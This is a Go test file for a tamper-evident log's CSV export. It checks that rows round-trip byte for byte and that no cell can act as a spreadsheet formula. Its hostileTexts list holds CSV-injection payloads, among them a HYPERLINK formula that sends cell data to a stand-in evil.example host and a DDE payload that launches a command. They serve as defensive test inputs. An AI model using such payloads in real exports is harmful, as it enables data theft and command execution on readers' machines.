package server

import (
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/tree-of-life-system/immutable"
	"github.com/tree-of-life-system/immutable/internal/entry"
	"github.com/tree-of-life-system/immutable/proof"
)

// readCSV is a reader of RFC 4180 that keeps every byte of a cell; encoding/csv turns CR LF inside one into LF. ok says that data
// is whole records.
func readCSV(data string) (rows [][]string, ok bool) {
	var row []string
	for len(data) > 0 {
		var cell strings.Builder
		if data[0] == '"' {
			for data = data[1:]; ; {
				i := strings.IndexByte(data, '"')
				if i < 0 {
					return rows, false
				}
				cell.WriteString(data[:i])
				if data = data[i+1:]; !strings.HasPrefix(data, `"`) {
					break
				}
				cell.WriteByte('"')
				data = data[1:]
			}
		} else {
			i := strings.IndexAny(data, ",\r")
			if i < 0 {
				return rows, false
			}
			cell.WriteString(data[:i])
			data = data[i:]
		}
		row = append(row, cell.String())
		if strings.HasPrefix(data, "\r\n") {
			rows, row, data = append(rows, row), nil, data[2:]
		} else if strings.HasPrefix(data, ",") {
			data = data[1:]
		} else {
			return rows, false
		}
	}
	return rows, row == nil
}

// uncell is what docs/http-api.md tells readers to do.
func uncell(cell string) string { return strings.TrimPrefix(cell, "'") }

// lineOf makes an entry's line again from its row.
func lineOf(t testing.TB, row []string) []byte {
	t.Helper()
	var line []byte
	text := func(cell string) {
		var err error
		if line, err = entry.AppendString(line, uncell(cell)); err != nil {
			t.Fatalf("the cell %q: %v", cell, err)
		}
	}
	line = append(line, `{"id":"`+row[1]+`","timestamp":"`+row[2]+`","level":"`+row[3]+`","message":`...)
	text(row[4])
	line = append(line, `,"metadata":`+uncell(row[5])+`,"hostname":`...)
	text(row[6])
	line = append(line, `,"pid":`+row[7]...)
	for i, name := range []string{"eventTime", "traceId", "spanId"} {
		if row[8+i] != "" {
			line = append(line, `,"`+name+`":"`+row[8+i]+`"`...)
		}
	}
	if row[11] != "" {
		line = append(line, `,"idempotencyKey":`...)
		text(row[11])
	}
	for i, name := range []string{"producer", "blob", "encrypted", "log"} {
		if row[12+i] != "" {
			line = append(line, `,"`+name+`":`+uncell(row[12+i])...)
		}
	}
	return append(line, '}')
}

// hostileTexts are what spreadsheets, and readers of CSV, have been attacked with or got wrong.
var hostileTexts = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`, `=cmd|' /C calc'!A0`, "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u00a0=1",
	"＝1+1", "＠x", "'=1+1", "''", "'", `"`, `""`, `a"b`, "a,b", "a;=1", "a\r\nb", "a\rb", "a\nb", "\r\n", "", " ", "x ", " x", `\.`, "\\", "日本語, の", "\u2028", "\x7f",
	"sep=;", "1e5", "0012", "\u0000", "\u202e=1+1", "|calc", "%x",
}

func TestCSVRowsHoldEveryByteOfAnEntry(t *testing.T) {
	l := testLog(t)
	ctx := context.Background()
	for i, text := range hostileTexts {
		metadata := immutable.Fields{"=x": text, "n": i}
		e := immutable.Event{Level: immutable.Level(i % 7), Message: text, Metadata: metadata, IdempotencyKey: "'=" + text}
		if i%3 == 0 {
			e.EventTime = time.Date(2026, 1, 2, 3, 4, 5, i, time.FixedZone("", 3600))
			e.TraceID, e.SpanID = strings.Repeat("ab", 16), strings.Repeat("0e", 8)
			if text != "" && len(text) < 60 {
				e.Hostname = text
			}
		}
		if _, err := l.Append(ctx, e); err != nil {
			t.Fatalf("%q: %v", text, err)
		}
	}
	if err := l.RotateKeys(ctx); err != nil { // an entry that the log itself writes
		t.Fatal(err)
	}
	data := []byte(CSVColumns + "\r\n")
	n := 0
	var err error
	for e, eerr := range l.Entries(ctx, immutable.Query{}) {
		if eerr != nil {
			t.Fatal(eerr)
		}
		if data, err = AppendCSV(data, &e); err != nil {
			t.Fatal(err)
		}
		n++
	}
	rows, ok := readCSV(string(data))
	if !ok || len(rows) != n+1 || n <= len(hostileTexts) {
		t.Fatalf("%d rows of %d entries, whole: %v", len(rows), n, ok)
	}
	controls := 0
	for _, row := range rows[1:] {
		if len(row) != strings.Count(CSVColumns, ",")+1 {
			t.Fatalf("%d cells: %q", len(row), row)
		}
		line := lineOf(t, row)
		if got := proof.LeafHash(line).String(); got != row[16] {
			t.Errorf("row %s makes a line with leaf %s, not %s:\n%s", row[0], got, row[16], line)
		}
		if row[15] != "" {
			controls++
		}
		for i, cell := range row {
			if i != 5 && cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r\n") {
				t.Errorf("row %s: a spreadsheet runs the cell %q", row[0], cell)
			}
		}
	}
	if controls == 0 {
		t.Error("no control entry among the rows")
	}
	// Other readers agree on the cells, but for what encoding/csv does to CR LF.
	theirs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, row := range theirs {
		for j, cell := range row {
			if want := strings.ReplaceAll(rows[i][j], "\r\n", "\n"); cell != want {
				t.Errorf("row %d, cell %d: encoding/csv reads %q, want %q", i, j, cell, want)
			}
		}
	}
}

func FuzzCSVTextComesBackAndIsNoFormula(f *testing.F) {
	for _, text := range hostileTexts {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		data := append(csvText(nil, text), ',', 'x', '\r', '\n')
		rows, ok := readCSV(string(data))
		if !ok || len(rows) != 1 || len(rows[0]) != 2 || uncell(rows[0][0]) != text {
			t.Fatalf("%q became %q, read as %q (%v)", text, data, rows, ok)
		}
		if cell := strings.TrimLeft(rows[0][0], " \u00a0\u3000\ufeff"); cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r\n") {
			t.Fatalf("%q became the formula %q", text, cell)
		}
		if _, err := csv.NewReader(bytes.NewReader(data)).Read(); err != nil && err != io.EOF {
			t.Fatalf("%q: encoding/csv: %v", data, err)
		}
	})
}

// testLog is a log in a directory of its own, outside any installation.
func testLog(t testing.TB) *immutable.Log {
	t.Helper()
	dir := t.TempDir()
	l, err := immutable.Open(dir+"/log", &immutable.Config{StateDir: dir + "/state", RotateSize: 64 << 10})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := l.Close(); err != nil && err != immutable.ErrClosed {
			t.Error(err)
		}
	})
	return l
}
